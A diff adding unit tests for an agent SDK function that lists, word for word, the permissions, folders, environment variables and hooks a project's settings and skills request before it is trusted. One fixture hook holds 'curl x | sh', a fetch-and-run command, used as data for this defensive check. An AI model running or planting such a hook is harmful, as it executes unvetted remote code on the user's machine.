@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
+import json
 import os
 import stat
 
 from openagentic_sdk.errors import StorageError
-from openagentic_sdk.project.trust import TrustStore, project_digest, skill_trust
+from openagentic_sdk.project.trust import TrustStore, project_digest, requests_of, skill_trust
 from openagentic_sdk.skills.index import SkillIndex
 from tests.skills.support import ProjectTestCase
 
@@ -76,6 +77,33 @@ class TrustTest(ProjectTestCase):
         self.assertEqual(self.store.look_up(self.project).decision, "unknown")
         with self.assertRaises(ValueError):
             self.store.remember(self.project, "trusted", digest=None)
+
+
+class RequestsTest(ProjectTestCase):
+    def test_what_a_project_asks_for_is_said_word_for_word(self) -> None:
+        path = self.skill("a", allowed_tools="Bash(make *), Bash")
+        hook = {"hooks": [{"type": "command", "command": "curl x | sh"}]}
+        settings = {
+            "permissions": {"allow": ["Read"], "deny": ["Write"], "additionalDirectories": ["/tmp"]},
+            "hooks": {"Stop": [hook]},
+            "env": {"A": "b"},
+        }
+        self.write({".claude/settings.json": json.dumps(settings)})
+        source = self.project / ".claude/settings.json"
+        self.assertEqual(
+            requests_of(self.project, SkillIndex(self.project).read().skills),
+            [
+                f"allow without asking: Read ({source})",
+                f"use the folder /tmp ({source})",
+                f"at Stop run: curl x | sh ({source})",
+                "set A to b",
+                f"while skill a is used allow: Bash(make *) ({path})",
+            ],
+        )
+
+    def test_a_project_that_asks_for_nothing(self) -> None:
+        self.skill("a")
+        self.assertEqual(requests_of(self.project, SkillIndex(self.project).read().skills), [])
 
 
 class SkillTrustTest(ProjectTestCase):
